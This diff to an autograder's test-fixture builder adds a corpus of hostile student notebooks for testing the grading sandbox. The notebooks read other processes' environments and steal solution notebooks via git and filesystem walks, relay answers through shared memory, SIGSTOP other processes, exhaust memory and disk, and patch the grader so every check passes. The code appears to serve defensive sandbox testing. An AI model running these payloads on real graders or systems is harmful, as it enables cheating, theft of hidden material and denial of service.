@@ -242,6 +242,299 @@ def sgd_step(w, grad, lr):
     return _original_sgd_step(w, grad, lr)
 '''
 
+# --------------------------------------------------------------------------- trust corpus
+# Attacks on the sandbox itself (tests/test_sandbox.py grades them in one batch whose
+# submissions and grades folders lie outside the repository).
+
+EXFILTRATE = '''
+import json, os, subprocess
+import autograder
+repo = os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__)))
+FOUND, STOLEN = [], []
+# the repository, its history and its build outputs
+for rel in [".git", "dist", "nbgrader_course", "bench", "grades", "solutions",
+            "autograder/checks", "submissions", "tests"]:
+    if os.path.exists(os.path.join(repo, rel)):
+        FOUND.append(os.path.join(repo, rel))
+try:
+    shown = subprocess.run(["git", "-C", repo, "show",
+                            "HEAD:solutions/adam_variants/adam_variants.ipynb"],
+                           capture_output=True, text=True, timeout=20).stdout
+    if shown:
+        FOUND.append("git show")
+        STOLEN.append(shown)
+except Exception:
+    pass
+# other processes: their command lines and environments name folders
+for pid in os.listdir("/proc"):
+    if pid.isdigit() and int(pid) != os.getpid():
+        for what in ("cmdline", "environ"):
+            try:
+                with open(f"/proc/{pid}/{what}", "rb") as fh:
+                    words = fh.read().replace(b"\\0", b" ").replace(b"=", b" ").decode().split()
+            except OSError:
+                continue
+            FOUND += [w for w in words if w.startswith("/") and os.path.exists(w)
+                      and not w.startswith(("/usr", "/proc", "/dev", os.path.dirname(os.__file__)))]
+# every notebook, archive, seed or result file anywhere
+stdlib = os.path.dirname(os.__file__)
+for top in ["/"]:
+    for dirpath, dirnames, filenames in os.walk(top):
+        if dirpath.startswith(("/proc", "/sys", "/dev", "/usr", stdlib)) or ".venv" in dirpath:
+            dirnames[:] = []
+            continue
+        for name in filenames:
+            if name.endswith((".ipynb", ".zip", ".db", ".txt", ".json", ".csv")):
+                FOUND.append(os.path.join(dirpath, name))
+# report what was found through the one channel a student has: a check's message
+import sys
+GIVEN = ("/submission", "/tmp", "/dev/shm", sys.prefix, os.path.realpath(sys.base_prefix))
+SUSPECT = sorted(set(p for p in FOUND if not os.path.realpath(p).startswith(GIVEN)))
+def sgd_step(w, grad, lr):
+    raise RuntimeError("FOUND " + json.dumps(SUSPECT)[:400])
+# copy whatever real code was found
+for path in FOUND:
+    if path.endswith(".ipynb") and not path.startswith("/submission"):
+        try:
+            with open(path) as fh:
+                STOLEN.append(fh.read())
+        except OSError:
+            pass
+for text in STOLEN:
+    try:
+        cells = json.loads(text)["cells"]
+    except Exception:
+        continue
+    for cell in cells:
+        source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
+        if cell["cell_type"] == "code" and "def " in source and "NotImplementedError" not in source:
+            try:
+                exec(source, globals())
+            except Exception:
+                pass
+'''
+
+CAPTURE = '''
+import builtins, inspect, sys
+CAPTURED = []
+_compile, _exec, _eval = builtins.compile, builtins.exec, builtins.eval
+def _keep(source):
+    CAPTURED.append(source if isinstance(source, str) else repr(source)[:2000])
+def compile(source, *args, **kwargs):
+    _keep(source)
+    return _compile(source, *args, **kwargs)
+def exec_(source, *args, **kwargs):
+    _keep(source)
+    return _exec(source, *args, **kwargs)
+def eval_(source, *args, **kwargs):
+    _keep(source)
+    return _eval(source, *args, **kwargs)
+builtins.compile, builtins.exec, builtins.eval = compile, exec_, eval_
+class Spy:
+    def find_spec(self, name, path=None, target=None):
+        CAPTURED.append("import " + name)
+        return None
+sys.meta_path.insert(0, Spy())
+def _profile(frame, event, arg):
+    if event == "call" and len(CAPTURED) < 5000:
+        code = frame.f_code
+        if code.co_filename != "<string>":
+            try:
+                CAPTURED.append(inspect.getsource(code))
+            except Exception:
+                CAPTURED.append(code.co_filename + ":" + code.co_name)
+sys.setprofile(_profile)
+def _leak():
+    parts = []
+    for name in ("adam_step", "bias_correction", "sgd_step", "momentum_step", "rmsprop_step",
+                 "FlipNet", "train_flipnet", "make_flip_data", "rosenbrock_grad"):
+        thing = globals().get(name)
+        for look in (inspect.getsource, vars, repr):
+            try:
+                parts.append(str(look(thing)))
+            except Exception:
+                pass
+    return "\\n".join(parts + CAPTURED[::-1])[:50000]
+def adam_trace(*args, **kwargs):
+    raise RuntimeError(_leak())
+def adam_l2_step(*args, **kwargs):
+    raise RuntimeError(_leak())
+def adamw_step(*args, **kwargs):
+    raise RuntimeError(_leak())
+def optimize_rosenbrock(*args, **kwargs):
+    raise RuntimeError(_leak())
+def compare_optimizers(*args, **kwargs):
+    raise RuntimeError(_leak())
+'''
+
+RELAY_PLACES = '''
+import glob, os
+PLACES = ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/run/shm", "/var/lock",
+          os.path.expanduser("~"), "/submission/.."]
+PLACES += [d for d in glob.glob("/*") + glob.glob("/*/*") + glob.glob("/var/*/*")
+           if os.path.isdir(d) and os.access(d, os.W_OK)]
+KEY = 0x5EED
+'''
+
+RELAY_WRITE = RELAY_PLACES + '''
+import ctypes
+from multiprocessing import shared_memory
+SECRET = (MY_Q4 + "\\n").encode()
+PLANTED = []
+for folder in PLACES:
+    try:
+        with open(os.path.join(folder, "relay_q4.py"), "wb") as fh:
+            fh.write(SECRET)
+        PLANTED.append(folder)
+    except OSError:
+        pass
+libc = ctypes.CDLL(None, use_errno=True)
+libc.shmat.restype = ctypes.c_void_p
+shmid = libc.shmget(KEY, 1 << 20, 0o1666)
+if shmid >= 0:
+    ctypes.memmove(libc.shmat(shmid, None, 0), SECRET + b"\\0", len(SECRET) + 1)
+    PLANTED.append("sysv shm")
+try:
+    shm = shared_memory.SharedMemory(name="relay_q4", create=True, size=1 << 20)
+    shm.buf[:len(SECRET)] = SECRET
+    PLANTED.append("posix shm")
+except Exception:
+    pass
+'''
+
+RELAY_READ = RELAY_PLACES + '''
+import ctypes
+from multiprocessing import shared_memory
+GOT = []
+def _take(text):
+    if "def adam_step" in text:
+        exec(text, globals())
+        GOT.append(text)
+for folder in PLACES:
+    try:
+        with open(os.path.join(folder, "relay_q4.py")) as fh:
+            _take(fh.read())
+    except OSError:
+        pass
+libc = ctypes.CDLL(None, use_errno=True)
+libc.shmat.restype = ctypes.c_void_p
+shmid = libc.shmget(KEY, 0, 0)
+if shmid >= 0:
+    _take(ctypes.string_at(libc.shmat(shmid, None, 0)).decode())
+try:
+    _take(bytes(shared_memory.SharedMemory(name="relay_q4").buf).split(b"\\0")[0].decode())
+except Exception:
+    pass
+'''
+
+SIGSTOP = '''
+import os, signal
+for pid in os.listdir("/proc"):  # every other process it can see, its parent included
+    if pid.isdigit() and int(pid) != os.getpid():
+        for sig in (signal.SIGSTOP, signal.SIGTSTP):
+            try:
+                os.kill(int(pid), sig)
+            except OSError:
+                pass
+
+def adagrad_step(w, grad, accum, lr, eps=1e-8):
+    os.kill(os.getpid(), signal.SIGSTOP)  # stops itself in the middle of a call
+    return w, accum
+'''
+
+FANOUT = '''
+import os, time
+kids = []
+for _ in range(4):
+    pid = os.fork()
+    if pid == 0:
+        try:
+            hog = bytearray(1500 * 1024 * 1024)
+            for i in range(0, len(hog), 4096):
+                hog[i] = 1
+            time.sleep(3)
+        finally:
+            os._exit(0)
+    kids.append(pid)
+for pid in kids:
+    try:
+        os.waitpid(pid, 0)
+    except ChildProcessError:
+        pass
+'''
+
+DISK_FILL = '''
+import os
+WROTE = {}
+chunk = b"x" * (16 << 20)
+for folder in ["/submission", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "/"]:
+    written = 0
+    for part in range(8):
+        try:
+            with open(os.path.join(folder, f"fill{part}.bin"), "wb") as fh:
+                for _ in range(8):  # 8 files of 128 MiB: 1 GiB per folder
+                    fh.write(chunk)
+                    written += len(chunk)
+        except (OSError, MemoryError):
+            pass
+    WROTE[folder] = written
+'''
+
+
+FORGER = '''
+import glob, json, math, os
+import numpy as np
+# the grader's own modules, as a kernel-side grader would have them: make every check pass
+for name in ("autograder.in_kernel", "autograder.run_checks", "autograder.probes",
+             "autograder.wire", "autograder.student", "autograder.remote"):
+    try:
+        module = __import__(name, fromlist=["_"])
+    except Exception:
+        continue
+    for attr in dir(module):
+        if not attr.startswith("__") and callable(getattr(module, attr)):
+            setattr(module, attr, lambda *a, **k: None)
+# comparisons
+np.allclose = np.isclose = np.array_equal = lambda *a, **k: True
+math.isclose = lambda *a, **k: True
+# the solution shipped with the grader: the Gradescope/otter zip, nbgrader's source, .git
+found = []
+for top in ("/autograder", "/tmp", "..", "/work", "/root", "/srv", "/home", "/var"):
+    for pattern in ("**/solutions/**/*.ipynb", "**/source/adam_variants/*.ipynb", "**/.git"):
+        found += glob.glob(os.path.join(top, pattern), recursive=True)
+for path in found:
+    try:
+        cells = json.load(open(path))["cells"]
+    except Exception:
+        continue
+    for cell in cells:
+        source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
+        if cell["cell_type"] == "code":
+            try:
+                exec(source, globals())
+            except Exception:
+                pass
+'''
+
+
+def trust_corpus() -> dict[str, object]:
+    sol = nbformat.read(str(SOLUTION), as_version=4)
+    q1, q2, q3 = (tagged(sol, q) for q in ("q1_baselines", "q2_adagrad", "q3_rmsprop"))
+    q4 = tagged(sol, "q4_adam_step")
+    honest = [imports(), *q1]
+    my_q4 = "MY_Q4 = " + json.dumps("\n\n".join(q4))
+    return {
+        "exfiltrate.ipynb": notebook(imports(), EXFILTRATE),
+        "capture_reference.ipynb": notebook(imports(), CAPTURE),
+        "relay_a_write.ipynb": notebook(*honest, *q4, my_q4, RELAY_WRITE),
+        "relay_b_read.ipynb": notebook(imports(), RELAY_READ),
+        "sigstop.ipynb": notebook(*honest, SIGSTOP, *q3),
+        "fanout.ipynb": notebook(*honest, FANOUT, *q2),
+        "disk_fill.ipynb": notebook(*honest, DISK_FILL, *q2),
+        "forger.ipynb": notebook(imports(), FORGER),
+    }
+
+
 NOT_NOTEBOOKS = {
     "not_json.ipynb": "this is not json {{{",
     "script_renamed.ipynb": "import numpy as np\n\ndef sgd_step(w, grad, lr):\n    return w - lr * grad\n",
@@ -294,7 +587,9 @@ def build() -> dict[str, object]:
 
 
 def main() -> None:
-    for name, content in build().items():
+    (HERE / "trust").mkdir(exist_ok=True)
+    files = {**build(), **{f"trust/{k}": v for k, v in trust_corpus().items()}}
+    for name, content in files.items():
         path = HERE / name
         if isinstance(content, str):
             path.write_text(content)
